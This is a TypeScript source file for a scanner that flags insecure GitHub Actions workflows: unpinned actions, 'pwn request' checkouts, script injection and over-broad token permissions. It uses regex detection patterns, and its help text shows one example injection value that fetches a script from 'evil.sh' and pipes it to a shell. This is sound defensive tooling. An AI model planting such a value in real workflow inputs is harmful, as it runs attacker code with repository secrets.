import type { Node, Pair } from 'yaml';
import type { SeverityLevel } from '../../../../../src/shared/contracts/findings.js';
import type { Rule, RuleHit } from '../common/findings.js';
import { parseImageReference } from '../dockerfile/parser.js';
import type { Job, Step, WorkflowFile } from './model.js';

const HARDENING = 'https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions';

export const WORKFLOW_RULES = {
  unpinnedAction: {
    id: 'secloop.workflow.unpinned-action',
    name: 'Action not pinned to a commit SHA',
    help:
      'A tag or branch can be moved to other code at any time (tj-actions/changed-files, 2025): the workflow then ' +
      'runs it with your token and secrets. Pin every action to a full 40-character commit SHA and keep the ' +
      'version in a comment (`uses: owner/action@<sha> # v4.1.0`); Dependabot and Renovate update such pins.',
    helpUri: `${HARDENING}#using-third-party-actions`,
    cwe: ['CWE-829'],
    severity: 'medium',
    confidence: 0.95,
    fix: 'Pin the action to a full commit SHA (uses: owner/repo@<40-hex sha> # vX.Y.Z).',
  },
  untrustedCheckout: {
    id: 'secloop.workflow.untrusted-checkout',
    name: 'Pull request code checked out in a privileged workflow',
    help:
      '`pull_request_target` and `workflow_run` run with a write token and the repository secrets. Checking out ' +
      'the pull request head there and then building or running it ("pwn request") runs an outsider\'s code ' +
      'with those privileges. Build untrusted code in a `pull_request` workflow (no secrets) and hand results ' +
      'over as artifacts, or never execute anything from the checked-out tree.',
    helpUri: 'https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/',
    cwe: ['CWE-829', 'CWE-94'],
    severity: 'critical',
    confidence: 0.85,
    fix: 'Do not execute the PR head in pull_request_target/workflow_run; move the build to a pull_request workflow.',
  },
  scriptInjection: {
    id: 'secloop.workflow.script-injection',
    name: 'Untrusted input interpolated into a script',
    help:
      '`${{ }}` is expanded into the script text before the shell runs it, so an issue title or branch name such ' +
      'as `"; curl evil.sh | sh #` becomes code. Pass the value through an environment variable and quote it: ' +
      '`env: TITLE: ${{ github.event.issue.title }}` then `run: echo "$TITLE"` (in github-script, read `context.payload`).',
    helpUri: `${HARDENING}#understanding-the-risk-of-script-injections`,
    cwe: ['CWE-94', 'CWE-78'],
    severity: 'high',
    confidence: 0.9,
    fix: 'Move the expression to env: and reference the variable in quotes.',
  },
  permissions: {
    id: 'secloop.workflow.permissions',
    name: 'GITHUB_TOKEN permissions not restricted',
    help:
      'Without a `permissions:` block the job\'s GITHUB_TOKEN gets the repository default, which is read/write on ' +
      'contents, packages, pull requests and more in many repositories; `write-all` grants everything. Declare ' +
      'least privilege at the top (`permissions: {contents: read}`) and widen it per job only where needed.',
    helpUri: 'https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/controlling-permissions-for-github_token',
    cwe: ['CWE-272'],
    severity: 'medium',
    confidence: 0.8,
    fix: 'Add permissions: {contents: read} at the top level and grant more per job only where needed.',
  },
} satisfies Record<string, Rule>;

/** Triggers that run with secrets and a write token even when an outsider starts them. */
const PRIVILEGED_TRIGGERS = new Set([
  'pull_request_target', 'workflow_run', 'issues', 'issue_comment', 'discussion', 'discussion_comment',
  'pull_request_review', 'pull_request_review_comment',
]);
const CHECKOUT_TRIGGERS = ['pull_request_target', 'workflow_run'];

/** Event fields anyone who can open an issue or a fork PR chooses (GitHub Security Lab's list). */
const UNTRUSTED_CONTEXT = new RegExp(
  [
    String.raw`github\.event\.(?:issue|pull_request|discussion)\.(?:title|body)\b`,
    String.raw`github\.event\.(?:comment|review|review_comment)\.body\b`,
    String.raw`github\.event\.pages(?:\[[^\]]*\]|\.\*)?\.page_name\b`,
    String.raw`github\.event\.commits(?:\[[^\]]*\]|\.\*)?\.(?:message|author\.(?:email|name))\b`,
    String.raw`github\.event\.head_commit\.(?:message|author\.(?:email|name)|committer\.(?:email|name))\b`,
    String.raw`github\.event\.pull_request\.head\.(?:ref|label|repo\.default_branch)\b`,
    String.raw`github\.event\.workflow_run\.(?:head_branch|display_title|head_commit\.(?:message|author\.(?:email|name)))\b`,
    String.raw`github\.event\.workflow_run\.pull_requests(?:\[[^\]]*\]|\.\*)?\.head\.ref\b`,
    String.raw`github\.head_ref\b`,
    // The whole event (or a whole issue/PR/comment) serialised into the script carries the fields above.
    String.raw`toJSON\(\s*github\.event(?:\.(?:issue|pull_request|comment|review|discussion|head_commit|commits))?\s*\)`,
  ].join('|'),
  'g',
);

/** A `ref:`/`repository:` that names the pull request's head instead of the base. */
const UNTRUSTED_REF =
  /github\.event\.pull_request\.(?:head\.(?:sha|ref|repo\.full_name)|merge_commit_sha|number)|github\.head_ref|github\.event\.workflow_run\.(?:head_sha|head_branch|head_commit\.id|head_repository\.full_name)|github\.event\.number|refs\/pull\//;
/** Shell commands that fetch the PR head themselves. */
const SHELL_CHECKOUT = /\bgh\s+pr\s+checkout\b|\bgit\s+(?:fetch|checkout|switch|pull)\b[^\n]*(?:pull\/|\$\{\{[^}]*(?:head|number))/;

const EXPRESSION = /\$\{\{([\s\S]*?)\}\}/g;

export function checkWorkflow(w: WorkflowFile): RuleHit[] {
  const hits: RuleHit[] = [];
  for (const job of w.jobs) {
    hits.push(...unpinned(w, job));
    hits.push(...injections(w, job));
    if (w.kind === 'workflow') hits.push(...untrustedCheckouts(w, job));
  }
  if (w.kind === 'workflow') hits.push(...permissions(w));
  return hits;
}

function jobLabel(w: WorkflowFile, job: Job): string {
  return w.kind === 'workflow' ? `job ${job.id}` : 'the composite action';
}

function stepLabel(step: Step): string {
  if (step.key.startsWith('id:') || step.key.startsWith('name:')) return `step ${JSON.stringify(step.key.slice(step.key.indexOf(':') + 1))}`;
  return `step ${step.index + 1}`;
}

/** Owners whose actions GitHub publishes: still mutable tags, but a smaller risk than anyone's. */
const GITHUB_OWNED = new Set(['actions', 'github']);

function unpinned(w: WorkflowFile, job: Job): RuleHit[] {
  const hits: RuleHit[] = [];
  const uses: { text: string; pair: Pair; where: string; key: string }[] = job.steps.flatMap((s) =>
    s.uses !== undefined && s.usesPair ? [{ text: s.uses, pair: s.usesPair, where: `${stepLabel(s)} of ${jobLabel(w, job)}`, key: s.key }] : [],
  );
  if (job.uses !== undefined && job.usesPair) uses.push({ text: job.uses, pair: job.usesPair, where: `${jobLabel(w, job)} (reusable workflow)`, key: 'job-uses' });
  for (const u of uses) {
    const text = u.text.trim();
    if (text.startsWith('./') || text.startsWith('.\\')) continue;
    const line = w.view.line(u.pair);
    const identity = `job:${job.id}:${u.key}`;
    if (text.startsWith('docker://')) {
      const ref = parseImageReference(text.slice('docker://'.length));
      if (ref.digest) continue;
      hits.push({
        rule: WORKFLOW_RULES.unpinnedAction,
        message: `${u.where} runs the container ${text} by tag; pin it by digest (docker://image@sha256:...).`,
        line,
        identity,
        tags: [`job:${job.id}`],
      });
      continue;
    }
    const at = text.lastIndexOf('@');
    const action = at < 0 ? text : text.slice(0, at);
    const ref = at < 0 ? '' : text.slice(at + 1);
    if (/^[0-9a-f]{40}$/i.test(ref)) continue;
    const owner = action.split('/')[0]!.toLowerCase();
    const githubOwned = GITHUB_OWNED.has(owner);
    const shortSha = /^[0-9a-f]{7,39}$/i.test(ref);
    // A branch moves with every push; a tag only when someone re-points it (which attackers do).
    const branchLike = ref === '' || (!shortSha && !/^v?\d+(\.\d+)*([-.+][\w.]+)?$/.test(ref));
    const severity: SeverityLevel = githubOwned ? 'low' : branchLike ? 'high' : 'medium';
    const what = ref === '' ? 'with no ref' : shortSha ? `by an abbreviated SHA (${ref})` : `by ${branchLike ? 'branch' : 'tag'} ${ref}`;
    hits.push({
      rule: WORKFLOW_RULES.unpinnedAction,
      message: `${u.where} uses ${action} ${what}, which can be moved to other code; pin a full commit SHA.`,
      line,
      identity: `${identity}:${action}`,
      severity,
      tags: [`job:${job.id}`, githubOwned ? 'github-owned-action' : 'third-party-action'],
    });
  }
  return hits;
}

function injections(w: WorkflowFile, job: Job): RuleHit[] {
  const privileged = [...w.triggers].some((t) => PRIVILEGED_TRIGGERS.has(t));
  const hits: RuleHit[] = [];
  for (const step of job.steps) {
    const sinks: { node: Node; pair?: Pair; what: string }[] = [];
    if (step.runNode) sinks.push({ node: step.runNode, what: 'run script' });
    const script = step.with.get('script');
    if (script && step.uses && /^actions\/github-script@/i.test(step.uses)) {
      const node = w.view.deref(script.pair.value);
      if (node) sinks.push({ node, pair: script.pair, what: 'github-script script' });
    }
    for (const sink of sinks) {
      const value = w.view.text(sink.node) ?? '';
      const seen = new Set<string>();
      for (const expr of value.matchAll(EXPRESSION)) {
        for (const ctx of expr[1]!.matchAll(UNTRUSTED_CONTEXT)) {
          const field = ctx[0].replace(/\s+/g, '');
          if (seen.has(field)) continue;
          seen.add(field);
          hits.push({
            rule: WORKFLOW_RULES.scriptInjection,
            message: `${stepLabel(step)} of ${jobLabel(w, job)} expands ${field} into its ${sink.what}; an outsider controls that text. Pass it via env: and quote the variable.`,
            line: lineOfText(w, sink.node, expr[0]) ?? w.view.line(sink.pair) ?? step.line,
            identity: `job:${job.id}:${step.key}:${field}`,
            severity: privileged ? 'critical' : 'high',
            tags: [`job:${job.id}`],
          });
        }
      }
    }
  }
  return hits;
}

/** The line inside a (block) scalar where `needle` occurs as written, when the source keeps it verbatim. */
function lineOfText(w: WorkflowFile, node: Node, needle: string): number | undefined {
  const source = w.view.source(node);
  if (!source) return undefined;
  const at = source.text.indexOf(needle);
  return at < 0 ? undefined : w.view.lineAt(source.offset + at);
}

function untrustedCheckouts(w: WorkflowFile, job: Job): RuleHit[] {
  const trigger = CHECKOUT_TRIGGERS.find((t) => w.triggers.has(t));
  if (!trigger) return [];
  const hits: RuleHit[] = [];
  job.steps.forEach((step, i) => {
    let where: Pair | Node | undefined;
    if (step.uses && /^actions\/checkout@/i.test(step.uses)) {
      const ref = step.with.get('ref');
      const repo = step.with.get('repository');
      if (ref && UNTRUSTED_REF.test(ref.value)) where = ref.pair;
      else if (repo && UNTRUSTED_REF.test(repo.value)) where = repo.pair;
    } else if (step.run && SHELL_CHECKOUT.test(step.run) && step.runNode) {
      where = step.runNode;
    }
    if (!where) return;
    const runner = job.steps.slice(i + 1).find((s) => s.run !== undefined || (s.uses !== undefined && s.uses.trim().startsWith('./')));
    const line = w.view.line(where) ?? step.line;
    hits.push({
      rule: WORKFLOW_RULES.untrustedCheckout,
      message: runner
        ? `${jobLabel(w, job)} checks out the pull request head (${stepLabel(step)}) in a ${trigger} workflow and then runs code from it (${stepLabel(runner)}, line ${runner.line}).`
        : `${jobLabel(w, job)} checks out the pull request head (${stepLabel(step)}) in a ${trigger} workflow; nothing from it must ever be executed there.`,
      line,
      identity: `job:${job.id}:checkout:${step.key}`,
      severity: runner ? 'critical' : 'medium',
      confidence: runner ? 0.85 : 0.5,
      tags: [`job:${job.id}`, `trigger:${trigger}`],
    });
  });
  return hits;
}

function permissions(w: WorkflowFile): RuleHit[] {
  const hits: RuleHit[] = [];
  const writeAll = (pair: Pair | undefined) => w.view.text(pair?.value) === 'write-all';
  if (writeAll(w.permissions)) {
    hits.push({
      rule: WORKFLOW_RULES.permissions,
      message: 'The workflow grants write-all permissions to every job\'s GITHUB_TOKEN; grant only what each job needs.',
      line: w.view.line(w.permissions),
      identity: 'workflow:write-all',
      severity: 'high',
      confidence: 0.95,
    });
  }
  for (const job of w.jobs) {
    if (writeAll(job.permissions)) {
      hits.push({
        rule: WORKFLOW_RULES.permissions,
        message: `Job ${job.id} grants write-all permissions to its GITHUB_TOKEN; grant only what it needs.`,
        line: w.view.line(job.permissions),
        identity: `job:${job.id}:write-all`,
        severity: 'high',
        confidence: 0.95,
        tags: [`job:${job.id}`],
      });
    } else if (!job.permissions && !w.permissions) {
      hits.push({
        rule: WORKFLOW_RULES.permissions,
        message: `Job ${job.id} sets no permissions and neither does the workflow, so its GITHUB_TOKEN gets the repository default (often read/write).`,
        line: job.line,
        identity: `job:${job.id}:missing`,
        tags: [`job:${job.id}`],
      });
    }
  }
  return hits;
}
